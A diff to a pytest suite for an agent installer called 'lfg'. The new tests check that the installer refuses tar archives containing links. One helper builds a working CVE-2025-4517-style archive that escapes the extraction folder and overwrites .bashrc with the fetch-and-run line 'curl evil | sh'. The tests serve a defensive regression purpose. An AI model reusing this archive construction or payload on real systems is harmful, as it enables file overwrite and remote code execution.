@@ -5,8 +5,11 @@ no silent upgrade, and archives that would write outside the agent's folder refu
 
 from __future__ import annotations
 
+import io
 import json
+import os
 import subprocess
+import tarfile
 from pathlib import Path
 
 import pytest
@@ -152,7 +155,7 @@ def test_a_binary_agent_is_installed_when_its_sha256_matches_or_none_is_given_an
     if checksum == "bad":
         assert done.returncode == 1
         assert f"the download's sha256 is {digest}, not the registry's {'0' * 64}: refused" in done.stderr
-        assert not (machine.agents / "tiny").exists() or list((machine.agents / "tiny").iterdir()) == []
+        assert not (machine.agents / "tiny").exists()
         assert machine.installed() == {}
         return
     assert done.returncode == 0, done.stderr
@@ -209,3 +212,102 @@ def test_an_archive_reaching_outside_the_agent_folder_is_refused_and_nothing_is_
     assert machine.installed() == {}
     assert not (machine.agents / "evil" / "1.0.0").exists()
     assert not any(p.name == "escaped" for p in tmp_path.rglob("escaped"))
+
+
+@pytest.mark.parametrize(
+    ("links", "hard_links", "refusal"),
+    [
+        ({"bin/tool": "agent"}, {}, "member 'bin/tool' is a symbolic link (to 'agent')"),
+        ({}, {"bin/copy": "bin/agent"}, "member 'bin/copy' is a hard link (to 'bin/agent')"),
+    ],
+    ids=["symlink-inside", "hard-link-inside"],
+)
+def test_a_tar_with_any_link_is_refused_even_one_that_stays_inside(
+    machine: Machine, tmp_path: Path, links: dict[str, str], hard_links: dict[str, str], refusal: str
+) -> None:
+    with served(tmp_path / "registry") as registry:
+        digest = registry.archive("linked.tar.gz", {"bin/agent": b"#!/bin/sh\n"}, links, hard_links)
+        archive = f"{registry.url}/linked.tar.gz"
+        registry.publish(binary_agent("linked", "1.0.0", this_platform(), archive, digest))
+        done = machine.lfg(registry.index, "install", "linked", "--yes")
+    assert done.returncode == 1
+    assert done.stderr == (
+        f"lfg: refused: {refusal}; lfg unpacks no links from an archive "
+        "(one could lead outside the agent's folder): nothing installed\n"
+    )
+    assert machine.installed() == {} and not (machine.agents / "linked").exists()
+
+
+def _realpath_limit_archive(dest: Path, up: int) -> bytes:
+    """A .tar.gz shaped like CVE-2025-4517's: directories `d…d` nested 16 deep, reached through a
+    chain of one-letter symlinks, so that the real path of a last link passes PATH_MAX and
+    `os.path.realpath` stops following links there; that link climbs back to `dest`, and `escape`
+    climbs `up` folders further. Hard links through `escape` then reach `.bashrc` and a file in a
+    sibling folder, and members written on them overwrite both; `escape/newfile` adds a file.
+    Lexically, every name and link stays inside `dest`."""
+    steps = "abcdefghijklmnop"
+    component = "d" * ((os.pathconf(dest.anchor, "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1))
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+
+        def add(name: str, kind: bytes = tarfile.REGTYPE, target: str = "", content: bytes = b"") -> None:
+            info = tarfile.TarInfo(name)
+            info.type, info.linkname, info.size = kind, target, len(content)
+            info.mode = 0o755 if kind != tarfile.SYMTYPE else 0o777
+            tar.addfile(info, io.BytesIO(content) if content else None)
+
+        add("bin/agent", content=b"#!/bin/sh\necho agent\n")
+        path = ""
+        for step in steps:
+            add(os.path.join(path, component), tarfile.DIRTYPE)
+            add(os.path.join(path, step), tarfile.SYMTYPE, component)
+            path = os.path.join(path, component)
+        last = os.path.join(*steps, "l" * 254)
+        add(last, tarfile.SYMTYPE, os.path.join(*[".."] * len(steps)))
+        add("escape", tarfile.SYMTYPE, os.path.join(last, *[".."] * up))
+        add("bashrc", tarfile.LNKTYPE, "escape/.bashrc")
+        add("bashrc", content=b"curl evil | sh\n")
+        add("notes", tarfile.LNKTYPE, "escape/sibling/notes.txt")
+        add("notes", content=b"overwritten\n")
+        add("escape/newfile", content=b"new\n")
+    return buffer.getvalue()
+
+
+def _outside(tmp_path: Path, skipped: tuple[Path, ...]) -> dict[str, bytes]:
+    """Every file under `tmp_path` but in the `skipped` folders (lfg's own), with its content; links
+    are not followed (what an archive unpacked is walked without leaving it)."""
+    found: dict[str, bytes] = {}
+    for folder, subfolders, files in os.walk(tmp_path):
+        subfolders[:] = [name for name in subfolders if Path(folder, name) not in skipped]
+        found |= {os.path.join(folder, name): Path(folder, name).read_bytes() for name in files}
+    return found
+
+
+def test_a_cve_2025_4517_shaped_archive_with_its_right_sha256_writes_nothing_outside_and_is_refused(
+    machine: Machine, tmp_path: Path
+) -> None:
+    """Links in a tar are refused whole, whatever Python's `data` filter would have let through on
+    this machine's patch level (3.11.7 and any 3.11 before 3.11.13 follow this archive out)."""
+    (tmp_path / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")  # HOME is tmp_path
+    (tmp_path / "sibling").mkdir()
+    (tmp_path / "sibling" / "notes.txt").write_text("mine\n")
+    staging = machine.agents / "evil" / ".download-12345678" / "agent"  # tempfile's 8-letter names
+    up = len(staging.relative_to(tmp_path).parts)  # from the folder it unpacks into up to HOME
+    with served(tmp_path / "registry") as registry:
+        digest = registry.file("evil.tar.gz", _realpath_limit_archive(staging.resolve(), up))
+        registry.publish(
+            binary_agent("evil", "1.0.0", this_platform(), f"{registry.url}/evil.tar.gz", digest)
+        )
+        before = _outside(tmp_path, (machine.agents, machine.cache))
+        done = machine.lfg(registry.index, "install", "evil", "--yes")
+    assert _outside(tmp_path, (machine.agents, machine.cache)) == before
+    assert (tmp_path / ".bashrc").read_text() == "export PATH=$HOME/bin:$PATH\n"
+    assert (tmp_path / "sibling" / "notes.txt").read_text() == "mine\n"
+    assert not (tmp_path / "newfile").exists()
+    assert done.returncode == 1, done.stdout
+    assert "Installed" not in done.stdout
+    refusal = done.stderr.strip()
+    assert "\n" not in refusal and "Traceback" not in refusal
+    assert refusal.startswith("lfg: refused: member 'a' is a symbolic link"), refusal
+    assert machine.installed() == {}
+    assert not (machine.agents / "evil").exists()
